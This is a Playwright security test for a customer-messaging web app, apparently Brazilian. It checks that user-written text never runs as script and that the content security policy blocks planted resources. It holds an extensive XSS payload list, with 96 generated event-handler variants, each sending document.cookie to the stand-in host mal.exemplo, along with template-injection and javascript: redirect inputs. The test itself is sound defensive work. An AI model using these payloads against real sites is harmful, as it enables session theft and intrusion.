import { expect, test, type Page } from '@playwright/test';
import { letCustomerWrite, PASSWORD, signIn } from './support';

// What anybody may write, in the places that show it: no script runs, nobody is called, and nothing is stopped by the last
// wall (the content security policy) only. No screen of ours needs what that wall forbids.

const CALL = `fetch('https://mal.exemplo/'+document.cookie)`;
const HOSTILE = [
  `<script>${CALL}</script>`,
  `</title></textarea></style><script src=https://mal.exemplo/a.js></script>`,
  `"><img src=https://mal.exemplo/a.png onerror=${CALL}>`,
  `'><svg/onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<object data="https://mal.exemplo/a.swf"></object><embed src="https://mal.exemplo/a.swf">`,
  `<details open ontoggle=${CALL}>a</details>`,
  `<video><source onerror=${CALL}></video><audio src=https://mal.exemplo/a.mp3 autoplay>`,
  `<body onload=${CALL}><input autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>a</marquee>`,
  `<a href="javascript:${CALL}">clique</a>`,
  `[clique](javascript:${CALL}) ![a](https://mal.exemplo/a.png)`,
  `javascript:${CALL}//https://exemplo.com`,
  `https://exemplo.com/"onmouseover="${CALL}" x="`,
  `https://exemplo.com/'><script>${CALL}</script>`,
  `www.exemplo.com/<img src=x onerror=${CALL}>`,
  `a@exemplo.com?subject=<script>${CALL}</script>`,
  `data:text/html,<script>${CALL}</script>`,
  `<style>@import 'https://mal.exemplo/a.css';*{background:url(https://mal.exemplo/b.png)}</style>`,
  `<link rel=stylesheet href=https://mal.exemplo/a.css><link rel=prefetch href=https://mal.exemplo/b>`,
  `<meta http-equiv=refresh content="0;url=https://mal.exemplo/">`,
  `<base href=https://mal.exemplo/><form action=https://mal.exemplo/><button autofocus>a</button></form>`,
  `<template><script>${CALL}</script></template><noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--><script>${CALL}</script>--> <![CDATA[<script>${CALL}</script>]]>`,
  `{{constructor.constructor("${CALL}")()}} \${${CALL}} <%= ${CALL} %>`,
  `*<b>_<i onclick=${CALL}>~a~</i>_</b>* \`<script>${CALL}</script>\` \`\`\`</code><script>${CALL}</script>\`\`\``,
  `&lt;script&gt;${CALL}&lt;/script&gt; &#60;script&#62; %3Cscript%3E \u003cscript\u003e ＜script＞`,
  `<img src=x\u0000onerror=${CALL}> <img/src/onerror=${CALL}> <IMG SRC=x OnErRoR=${CALL}>`.replace('\u0000', '\u200b'),
];
/** Every element that says when something happens to it, with every way to say so: 96 more. */
const HANDLERS = [
  'onload',
  'onerror',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const ELEMENTS = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'details',
  'input',
  'select',
  'iframe',
  'object',
  'marquee',
  'x',
];
const HANDLED = ELEMENTS.map((element) =>
  HANDLERS.map((handler) => `<${element} src=x autofocus open tabindex=0 ${handler}=${CALL}>`).join('\n'),
);
/** Screens that the settings do not lead to. */
const OTHER_SCREENS = [
  '/supervisao',
  '/comecar',
  '/cadastro',
  '/esqueci-minha-senha',
  '/redefinir-senha#nada',
  '/convite#nada',
  '/confirmar-email#token=nada',
  '/avaliacao/nada',
];
/** Short enough for names. */
const NAME = `"><img src=//mal.exemplo/a onerror=alert(1)>`;

/** Everything that must not happen on a page from now on. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('tellOfViolation', (text: string) => seen.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { tellOfViolation: (text: string) => void }).tellOfViolation(
        `${event.violatedDirective} ${event.blockedURI} ${event.sample}`,
      );
    });
  });
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'mal.exemplo') seen.push(request.url());
  });
  page.on('dialog', (dialog) => {
    seen.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}

test('what anybody writes stays text wherever it is shown', async ({ page, baseURL }) => {
  const seen = await watch(page);
  await signIn(page);
  const headers = { origin: baseURL ?? '' };
  const call = async (method: string, path: string, data: unknown): Promise<Record<string, string>> => {
    const answer = await page.request.fetch(path, { method, headers, data });
    expect(answer.ok(), `${method} ${path} ${await answer.text()}`).toBe(true);
    return answer.status() === 204 ? {} : ((await answer.json()) as Record<string, string>);
  };

  // A customer: the name, every kind of text, a caption, a card, a place.
  const name = `${NAME}${Date.now()}`;
  const [first = '', ...others] = [0, 8, 16, 24].map((at) => HOSTILE.slice(at, at + 8).join('\n'));
  const { chat } = await letCustomerWrite(page, name, first);

  const row = page.getByRole('list', { name: 'Conversas' }).getByRole('link').filter({ hasText: name });
  await page.goto(`/conversas?view=all&q=${encodeURIComponent(HOSTILE[2] ?? '')}`);
  await page.goto('/conversas?view=all');
  await expect(row).toBeVisible();
  await row.click();
  const thread = page.getByRole('log', { name: 'Mensagens' });
  await expect(thread.getByText(HOSTILE[0] ?? '').first()).toBeVisible();
  for (const [index, text] of others.entries()) {
    await call('POST', chat, { type: 'text', text });
    await expect(thread.getByText(HOSTILE[8 * (index + 1)] ?? '').first()).toBeAttached();
  }
  // All at once: an open thread follows a burst to its end.
  for (const text of HANDLED) await call('POST', chat, { type: 'text', text });
  await expect(thread.getByText('<x src=x').first()).toBeAttached();
  await call('POST', chat, { type: 'contacts', name: NAME, phone: '+5511988887777"><svg/onload=alert(1)>' });
  await call('POST', chat, { type: 'location', latitude: 1, longitude: 1, name: NAME, address: HOSTILE[3] });
  await call('POST', chat, { type: 'button_reply', id: NAME, title: NAME });
  await expect(thread.getByText(NAME).last()).toBeVisible();

  // Our own people: subject, label, note, names of what they make.
  const id = /conversas\/([0-9a-f-]{36})/u.exec(page.url())?.[1] ?? '';
  const conversation = `/api/v1/conversations/${id}`;
  await call('PATCH', conversation, { subject: HOSTILE[0] });
  await call('POST', `${conversation}/messages`, { type: 'text', text: HOSTILE.slice(0, 8).join('\n'), private: true });
  const team = await call('POST', '/api/v1/teams', { name: NAME.slice(0, 60), member_ids: [] });
  const role = await call('POST', '/api/v1/roles', {
    name: NAME.slice(0, 60),
    permissions: ['contacts.read'],
    scope: 'own',
    password: PASSWORD,
  });
  await page.goto('/configuracoes');
  const sections = page.getByRole('link').and(page.locator('a[href^="/configuracoes/"]'));
  await expect(sections.first()).toBeVisible();
  const screens = await sections.evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  expect(screens.length).toBeGreaterThan(15);
  for (const path of [...screens, ...OTHER_SCREENS]) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByRole('status', { name: 'Carregando…' })).toHaveCount(0);
  }
  await page.goto('/configuracoes/equipes');
  await expect(page.getByText(NAME.slice(0, 60))).toBeVisible();
  await call('DELETE', `/api/v1/teams/${team['id'] ?? ''}`, undefined);
  await call('DELETE', `/api/v1/roles/${role['id'] ?? ''}`, { password: PASSWORD });

  // Addresses that say something, and the customer's own screen.
  await page.goto(`/conversas/${encodeURIComponent(HOSTILE[2] ?? '')}`);
  await page.goto(`/entrar?next=${encodeURIComponent('javascript:alert(1)')}#${encodeURIComponent(HOSTILE[0] ?? '')}`);
  await page.goto(`/conversas/${id}`);
  await expect(thread.getByText(NAME).first()).toBeAttached();
  await page.goto('/demonstracao');
  await expect(page.getByText(name).first()).toBeVisible();
  await call('POST', `${conversation}/resolve`, {});
  expect(seen).toEqual([]);

  // Planted ones are stopped, each by its own wall, and seen.
  const planted = {
    'require-trusted-types-for': () => document.body.insertAdjacentHTML('beforeend', '<b>a</b>'),
    'trusted-types': () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      trustedTypes.createPolicy('a', {});
    },
    'script-src': () => void WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
    'font-src': () => void new FontFace('a', 'url(https://mal.exemplo/a.woff2)').load(),
    'connect-src': () => void fetch('https://mal.exemplo/a'),
    'frame-src': () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/icon.svg' })),
    'style-src-attr': () => document.body.setAttribute('style', 'color: red'),
    'style-src-elem': () => {
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'b { color: red }' }));
    },
    'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://mal.exemplo/a.png' })),
  };
  for (const [directive, plant] of Object.entries(planted)) {
    await page.evaluate(plant).catch(() => undefined);
    await expect.poll(() => seen.join('\n')).toContain(directive);
  }
});
